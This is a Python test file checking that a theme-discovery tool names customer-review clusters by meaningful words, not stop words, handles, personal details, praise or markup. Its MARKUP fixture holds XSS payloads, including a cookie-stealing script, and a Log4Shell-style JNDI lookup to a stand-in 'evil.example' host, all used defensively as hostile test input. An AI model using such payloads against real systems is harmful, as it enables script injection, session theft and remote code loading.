"""Discovered theme names an analyst can use (audit findings 8 and 5b).

Names are never made of another language's function words, of @handles or URL pieces, of a
person's name or contact; no two themes share a name; a theme's quote says what it is named by.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import stopwordsiso

from advocacy.text.embeddings import default_embedder
from advocacy.text.phrases import fold
from advocacy.text.theme_names import class_tfidf, naming_stop_words, text_phrases, unique_names
from advocacy.text.themes import discover_themes
from support.theme_texts import PARCEL

#: A run of kanji or of katakana: what a Japanese naming word is.
JAPANESE_RUN = re.compile(
    "[\u3400-\u4dbf\u4e00-\u9fff\uf900-\ufaff々〆]+|[\u30a0-\u30ff\uff66-\uff9f]+"
)


def _words(names: list[str]) -> set[str]:
    return {fold(word) for name in names for phrase in name.split(" / ") for word in phrase.split()}


def test_words_that_say_nothing_alone_never_name_a_theme() -> None:
    # The names the audit met: "tried / like", "sure / everything", "since / time", "tell / two".
    texts = [
        f"I tried it and sure, I like {thing} since then, tell everyone, two thumbs"
        for thing in ("the blender", "the blender jug", "the blender motor", "the blender lid")
    ] * 3
    [phrases] = class_tfidf(texts, np.zeros(len(texts), int), 1)
    assert "blender" in phrases
    assert not {"tried", "like", "sure", "since", "tell", "two", "everyone"} & set(phrases)
    # A stop word may still sit inside a phrase that words of substance begin and end.
    found = text_phrases("I was charged twice, a waste of time, and need a refund")
    assert {"refund", "charged", "waste of time"} <= found
    assert not {"need a refund", "charged twice", "time and need"} & found


def test_each_language_has_its_stop_words() -> None:
    french = [f"Car ça marche {w}, la qualité du tissu est bonne" for w in ("bien", "mal", "vite")]
    [phrases] = class_tfidf(french * 4, np.zeros(12, int), 1, languages=["fr"] * 12)
    assert {"qualite", "tissu"} & _words(phrases)
    assert not {"car", "ca"} & _words(phrases)
    padded = ["以前从不去评价，直接发出就可以了，推荐给大家！质量很好"] * 4
    [phrases] = class_tfidf(padded, np.zeros(4, int), 1, languages=["zh"] * 4)
    assert phrases == ["质量很好"]
    japanese = ["ただ、また、電池の持ちが悪い。", "ただ、また、電池の持ちが悪い。充電も遅い。"] * 3
    [phrases] = class_tfidf(japanese, np.zeros(6, int), 1, languages=["ja"] * 6)
    assert phrases and not {"ただ", "また"} & set(phrases)
    for language in ("de", "es", "pt", "it", "nl", "ja", "zh", "ru", "tr"):
        assert {fold(w) for w in stopwordsiso.stopwords(language)} <= naming_stop_words(language)


def test_handles_and_links_never_name_a_theme() -> None:
    texts = [
        f"@user @user via @user the new grayson allen ad https://t.co/x{n}Y #maga RT &amp;"
        for n in range(8)
    ]
    [phrases] = class_tfidf(texts, np.zeros(len(texts), int), 1)
    assert {"allen", "maga"} <= _words(phrases)
    assert not {"user", "via", "co", "http", "https", "amp", "rt"} & _words(phrases)


def test_real_tweets_are_named_without_handles_or_links(shared_data: Path) -> None:
    path = shared_data / "tweeteval" / "sentiment" / "test_text.txt"
    texts = path.read_text(encoding="utf-8").splitlines()[:1500]
    themes = discover_themes(texts, default_embedder().embed(texts), n_themes=8)
    words = _words([phrase for theme in themes for phrase in theme.key_phrases])
    assert words and not {"user", "co", "http", "https", "amp", "via"} & words
    names = [theme.label for theme in themes]
    assert len(set(names)) == len(names)


def test_real_french_and_japanese_reviews_are_named_by_what_they_are_about(
    shared_data: Path,
) -> None:
    for language in ("fr", "ja"):
        path = shared_data / "text-corpora" / "marc-amazon-multi" / language / "test.csv"
        with path.open(encoding="utf-8", newline="") as handle:
            texts = [row[1] for row in csv.reader(handle)][:600]
        themes = discover_themes(
            texts, default_embedder().embed(texts), n_themes=6, languages=[language] * 600
        )
        stop = {fold(word) for word in stopwordsiso.stopwords(language)}
        for theme in themes:
            names = theme.label.split(" / ")
            assert not all(fold(name) in stop for name in names), theme.label
            assert not {"ただ", "また"} & set(names), theme.label


def test_real_japanese_reviews_are_named_by_words_not_clauses(shared_data: Path) -> None:
    # Audit 3, F2: written without spaces, a clause read as one word was never said twice, and
    # every theme of Japanese reviews was "theme 1", "theme 8".
    path = shared_data / "text-corpora" / "marc-amazon-multi" / "ja" / "test.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        texts = [row[1] for row in csv.reader(handle)][:600]
    themes = discover_themes(
        texts, default_embedder().embed(texts), n_themes=6, languages=["ja"] * 600
    )
    for theme in themes:
        assert not theme.label.startswith("theme "), theme.label
        for word in theme.label.split(" / "):
            if not word.isascii():
                assert len(word) <= 6, theme.label  # words, not clauses
                # a word as the texts write it: whole runs of kanji or katakana, never a piece
                # of a longer run
                assert any(word in JAPANESE_RUN.findall(text) for text in texts), theme.label
    assert text_phrases("不良品なら交換してもらいたいです", "ja") >= {"不良品", "交換"}


def test_chinese_clauses_stay_whole_and_a_brand_in_kana_does_not_make_them_japanese() -> None:
    # review5 item 2: character pairs named Chinese themes by pairs that straddle two words.
    assert text_phrases("包装很好，质量不错", "zh") == {"包装很好", "质量不错"}
    assert text_phrases("亚马逊发货很快，ポケモン", None) == {"亚马逊发货很快", "ポケモン"}
    assert text_phrases("亚马逊发货很快", None) == {"亚马逊发货很快"}


def test_no_two_themes_share_a_name() -> None:
    assert unique_names([["good", "great"], ["good", "great", "price"]], ["a", "b"]) == [
        "good / great",
        "good / price",
    ]
    assert unique_names([["good"], ["good"], []], ["theme 1", "theme 2", "theme 3"]) == [
        "good",
        "theme 2",
        "theme 3",
    ]
    # Two clusters that say the same words are still two names.
    texts = ["great product, fast delivery", "great product, good price"] * 6
    vectors = np.array([[1.0, 0.0], [0.0, 1.0]] * 6)
    names = [theme.label for theme in discover_themes(texts, vectors, n_themes=2)]
    assert len(set(names)) == 2


def test_a_persons_name_or_contact_never_names_a_theme() -> None:
    # 5b: the audit's "sarah connor / visit" theme; the quotes were redacted, the name was not.
    texts = [
        f"Sarah Connor at the North store {what}, call her on 0161 496 0{n}00 or e-mail "
        "pat.jones@example.org"
        for n, what in enumerate(["was lovely", "helped me", "sorted my refund", "was great"] * 3)
    ]
    themes = discover_themes(texts, np.tile([[1.0, 0.0]], (len(texts), 1)) + 0.01, n_themes=1)
    words = _words([phrase for theme in themes for phrase in theme.key_phrases])
    assert {"north", "store"} <= words
    assert not {"sarah", "connor", "0161", "496", "pat", "jones", "example", "org"} & words
    # The workspace's own redactor can be given: it masks a name the shipped lists do not know.
    texts = [f"Zorblax at the desk {what}" for what in ("was rude", "shouted", "was rude")] * 4
    vectors = np.tile([[1.0, 0.0]], (len(texts), 1))
    themes = discover_themes(
        texts, vectors, n_themes=1, redact=lambda text: text.replace("Zorblax", "[name]")
    )
    assert "zorblax" not in _words(themes[0].key_phrases)
    assert "desk" in _words(themes[0].key_phrases)


def test_a_themes_quote_says_what_the_theme_is_named_by() -> None:
    # The text nearest the centre is about seashells; the theme is about late deliveries.
    delivery = [f"the delivery was late {w}" for w in ("again", "twice", "today", "badly")] * 2
    texts = ["seashells arrived as a gift", *delivery, "staff were kind"] * 1
    texts += ["friendly staff at the till", "the staff were kind and friendly"] * 4
    vectors = np.array([[1.0, 0.0]] + [[0.9, 0.3 + 0.02 * i] for i in range(8)] + [[0.0, 1.0]] * 9)
    themes = discover_themes(texts, vectors, n_themes=2, quotes=2)
    late = next(theme for theme in themes if "delivery" in theme.label or "late" in theme.label)
    assert "seashells" not in late.quote
    assert all("delivery" in quote for quote in late.quotes)
    assert "seashells arrived as a gift" in [texts[i] for i in late.members]


def test_the_quote_shows_the_themes_phrase_within_what_is_shown() -> None:
    # The nearest text says "delivery" only after the 160 characters a quote shows.
    padding = "I want to say first that I have bought here for years and years " * 4
    texts = [padding + "and the delivery was late again."]
    texts += [f"the delivery was late {w}" for w in ("twice", "today", "badly", "again")] * 2
    texts += ["friendly staff at the till", "the staff were kind and friendly"] * 4
    vectors = np.array([[1.0, 0.0]] + [[0.9, 0.3 + 0.02 * i] for i in range(8)] + [[0, 1.0]] * 8)
    themes = discover_themes(texts, vectors, n_themes=2, quotes=1)
    late = next(theme for theme in themes if 0 in theme.members.tolist())
    assert "delivery" in late.label
    assert late.quote.startswith("the delivery was late")


def test_texts_without_a_language_count_towards_the_themes_language() -> None:
    # Review D5: 100 texts not analysed yet (no language) and 3 English ones off the topic; the
    # three alone named the theme "weather in spain / cat knocked".
    lateness = ["two days", "a week", "again", "as usual", "by hours"]
    delivery = [f"the delivery was late {lateness[i % 5]} order {i}" for i in range(100)]
    off_topic = ["sunny weather in spain", "the cat knocked it over", "sunny weather in spain"]
    prices = [f"the price is too high for item {i}" for i in range(20)]
    texts = delivery + off_topic + prices
    vectors = np.array([[1.0, 0.0]] * 103 + [[0.0, 1.0]] * 20)
    languages = [None] * 100 + ["en"] * 23
    themes = discover_themes(texts, vectors, n_themes=2, languages=languages)
    late = next(theme for theme in themes if theme.size == 103)
    assert "delivery" in late.label and "weather" not in late.label
    assert "delivery" in late.quote


def test_elided_function_words_never_name_a_theme() -> None:
    # Review D7: "n'ai", "qu'il", "l'ho" and "dell'ordine" were phrases; a real run on MARC
    # en+de+fr named a theme "reçu / n'ai".
    french = text_phrases("Je n'ai jamais reçu, qu'il dit", "fr")
    italian = text_phrases("Non l'ho ricevuto, il numero dell'ordine", "it")
    assert not {"n'ai", "qu'il", "n'ai jamais reçu"} & french and "reçu" in french
    assert not {"l'ho", "dell'ordine", "l'ho ricevuto"} & italian
    assert {"ricevuto", "ordine"} <= italian
    assert "o'brien's shop" in text_phrases("O'Brien's shop", "en")


def test_a_word_with_accents_is_not_the_stop_word_it_folds_to() -> None:
    # Review D4: "Größe" (size) folds to "grosse", like the stop word "große" (big), so German
    # size complaints could never be named by their size. Typed without accents, a stop word
    # still is one ("tres" is "très").
    german = text_phrases("Die Größe passt nicht, eine große Enttäuschung", "de")
    assert {"größe", "größe passt"} <= german and not any("große" in p for p in german)
    assert not {"tres", "très"} & text_phrases("Tres bien. Très bien", "fr")
    sizes = [f"Die Größe passt nicht, falsche Größe {w}" for w in ("geliefert", "bekommen")] * 4
    prices = [f"Der Preis ist zu hoch, {w}" for w in ("teuer", "überteuert")] * 4
    names = class_tfidf(sizes + prices, np.array([0] * 8 + [1] * 8), 2, languages=["de"] * 16)
    assert "größe" in " ".join(names[0])


def test_a_chain_of_elisions_is_read_without_recursion() -> None:
    # Hostile input: 3,000 elided articles in one word once overflowed the stack.
    assert text_phrases("l'" * 3000 + "ordine", "it") == {"ordine"}


def test_a_taken_name_is_not_replaced_by_one_that_says_a_thing_twice() -> None:
    # Review nit: the fallbacks gave "late delivery / delivery" and "price / prices".
    taken = ["late delivery", "courier"]
    names = unique_names([taken, [*taken, "delivery", "refund"]], ["1", "2"])
    assert names == ["late delivery / courier", "late delivery / refund"]
    assert unique_names([["price", "staff"], ["price", "staff", "prices"]], ["1", "2"])[1] == (
        "staff / prices"
    )


#: Payloads of the audit's hostile rows (audit2 N6), each with a few words of prose.
MARKUP = [
    "<img src=x onerror=alert(1)> refund never came",
    "<script>alert(document.cookie)</script> loves the colour",
    "javascript:alert(1) the cable is missing",
    '<a href="javascript:alert(1)" onclick="alert(2)">comfy</a> and warm',
    "${jndi:ldap://evil.example/x} size runs small",
    "&lt;svg onload=alert(1)&gt; lovely dress",
]
MARKUP_WORDS = {
    "img", "src", "onerror", "alert", "script", "document", "cookie", "javascript", "href",
    "onclick", "jndi", "ldap", "evil", "example", "svg", "onload", "lt", "gt",
}  # fmt: skip


def test_markup_and_code_never_name_a_theme_but_the_words_beside_them_do() -> None:
    found = set().union(*(text_phrases(text) for text in MARKUP))
    assert not MARKUP_WORDS & _words(sorted(found))
    # "lovely" is an adjective of praise made with -ly: it begins no name, "dress" is one.
    assert {"refund", "cable", "comfy", "dress", "size runs small"} <= found


def test_real_reviews_with_planted_markup_are_named_by_the_reviews(shared_data: Path) -> None:
    path = shared_data / "clothing-reviews" / "womens-clothing-reviews-first-1000.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        reviews = [row["Review Text"] for row in csv.DictReader(handle) if row["Review Text"]]
    texts = reviews[:600] + MARKUP * 4
    themes = discover_themes(texts, default_embedder().embed(texts), n_themes=8)
    named = [theme.label for theme in themes] + [p for theme in themes for p in theme.key_phrases]
    assert len(_words(named)) > 10
    assert not MARKUP_WORDS & _words(named)


#: Words that say how a customer judged, not what about (audit4 item 12: "short / nice",
#: "sleeves / nice", "perfectly / book").
PRAISE = {"nice", "love", "loves", "great", "perfect", "perfectly", "cute", "lovely", "ótimo"}

COAT = [
    "Such a nice coat, the zipper sticks though",
    "Nice coat and I love it, but the zipper broke",
    "Perfect for winter, nice and warm, the hood is small",
    "Nice colour. The zipper is stiff",
    "I love it, nice lining, the hood is too small",
    "Nice coat, perfect length, the zipper pull came off",
    "Looks nice, the hood keeps falling down",
    "Nice and light; the zipper catches the lining",
]


def test_praise_never_names_a_theme_what_is_praised_does() -> None:
    coat, parcel = class_tfidf(COAT + PARCEL, np.repeat([0, 1], 8), 2)
    assert coat[0] == "zipper" and "hood" in coat
    assert not PRAISE & _words(coat)
    assert "parcel" in parcel
    # The same in Portuguese: the shipped model reads "ótimo" (great) as praise.
    portuguese = [
        "Ótimo produto, a embalagem veio rasgada",
        "Produto ótimo mas a embalagem chegou amassada",
        "Ótimo, só a embalagem que veio aberta",
        "Ótimo preço, embalagem frágil",
        "Ótimo produto, a tampa veio solta",
        "Ótimo! A tampa não fecha",
    ]
    [phrases] = class_tfidf(portuguese, np.zeros(6, int), 1, languages=["pt"] * 6)
    assert phrases[0] == "embalagem"
    assert "tampa" in phrases
    assert not PRAISE & _words(phrases)


def test_a_word_of_complaint_still_names_what_went_wrong() -> None:
    # Praise says nothing of what was praised; "broken" or "leaks" says what went wrong.
    texts = ["The lid arrived broken", "Broken lid again", "It leaks and the lid is broken"] * 2
    [phrases] = class_tfidf(texts, np.zeros(6, int), 1)
    assert {"broken", "lid"} <= _words(phrases)


def test_adverbs_made_with_ly_said_everywhere_never_name_a_theme_nouns_that_end_so_do() -> None:
    # An -ly adverb names a theme only when the cluster is about it (test_theme_names_praise.py:
    # "monthly fee"); said alike in every cluster, it names none.
    said = "The assembly finally worked and the family found it completely sturdy"
    texts = [said, said + " again", "Finally, completely sturdy, the assembly held"] * 2
    texts += ["The lid finally fits, completely", "Completely flat lid, finally"] * 2
    assembly, lid = class_tfidf(texts, np.repeat([0, 1], [6, 4]), 2)
    assert {"assembly", "family", "sturdy"} <= _words(assembly)
    assert "lid" in lid
    ends = {word for phrase in assembly + lid for word in (phrase.split()[0], phrase.split()[-1])}
    assert not {"finally", "completely"} & ends
    # Only in English: another language's word that ends in -ly is read as written.
    assert "italy" in text_phrases("Spedito dall'Italy molto veloce", "it")


def test_real_clothing_reviews_are_named_by_what_they_are_about(shared_data: Path) -> None:
    # The audit's "short / nice" and "sleeves / nice": praise is in most of these reviews.
    path = shared_data / "clothing-reviews" / "womens-clothing-reviews-first-1000.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        reviews = [row["Review Text"] for row in csv.DictReader(handle) if row["Review Text"]]
    themes = discover_themes(reviews, default_embedder().embed(reviews))
    names = [theme.label for theme in themes]
    assert len(names) >= 8
    # Before: "feel / cute", "flattering / comfortable", "wore / compliments", "size / perfectly".
    # ("comfortable" may name the cluster that is about comfort: test_theme_names_praise.py.)
    assert not (PRAISE | {"flattering", "compliments"}) & _words(names), names
    assert {"pants", "jeans", "size", "fabric", "lining"} <= _words(names)
